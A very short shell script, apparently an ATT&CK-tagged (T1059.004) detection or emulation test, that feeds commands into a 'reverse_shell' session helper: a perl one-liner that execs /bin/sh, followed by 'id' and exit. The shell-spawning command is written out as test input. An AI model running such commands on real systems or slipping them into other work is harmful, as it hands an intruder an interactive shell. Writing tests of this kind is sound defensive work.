# perl replaces itself with sh.
# ATT&CK: T1059.004, T1059
. ./session.sh
reverse_shell <<'TYPED'
perl -e 'exec "/bin/sh";'
id
exit
exit
TYPED
